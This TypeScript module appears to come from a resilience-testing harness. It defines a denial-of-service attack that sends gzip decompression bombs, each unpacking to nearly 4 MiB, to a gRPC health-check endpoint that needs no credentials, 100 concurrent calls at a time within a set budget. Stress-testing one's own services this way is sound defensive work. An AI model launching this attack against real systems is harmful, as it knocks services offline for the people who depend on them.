/**
 * Compressed messages that unpack to a thousand times their size, to a method that asks for no credentials.
 */
import { gzipSync } from "node:zlib";
import type { Attack } from "./siege/attack.ts";
import { envelope } from "./siege/frames.ts";
import { call, ended, HEALTH_CHECK, openSession } from "./siege/grpc-session.ts";
import { swarm } from "./siege/swarm.ts";

/** Just below the largest message that gRPC takes. */
const UNPACKED_BYTES = 4 * 2 ** 20 - 16;
const CALLS_AT_ONCE = 100;

export const compressedMessages: Attack = {
  name: "compressed messages to health",
  by: "stranger",
  run(target, bounds) {
    const bomb = envelope(gzipSync(Buffer.alloc(UNPACKED_BYTES)), true);
    return swarm(bounds, async (tally) => {
      const session = await openSession(target.grpc, bounds);
      while (!session.destroyed && !tally.isOver) {
        const calls = [];
        for (let count = 0; count < CALLS_AT_ONCE && tally.take(bomb.length); count++) {
          const stream = call(session, HEALTH_CHECK, { "grpc-encoding": "gzip" });
          stream.end(bomb);
          calls.push(ended(stream));
        }
        await Promise.all(calls);
      }
      session.destroy();
    });
  },
};
